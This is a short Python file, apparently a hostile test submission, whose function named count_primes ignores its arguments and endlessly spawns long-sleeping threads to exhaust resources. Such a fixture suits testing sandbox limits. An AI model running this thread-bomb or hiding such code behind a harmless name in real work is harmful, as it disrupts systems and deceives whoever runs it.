"""Starts threads without end."""
import threading
import time


def count_primes(limits, processes=2):
    while True:
        try:
            threading.Thread(target=time.sleep, args=(1000,)).start()
        except RuntimeError:
            time.sleep(0.01)
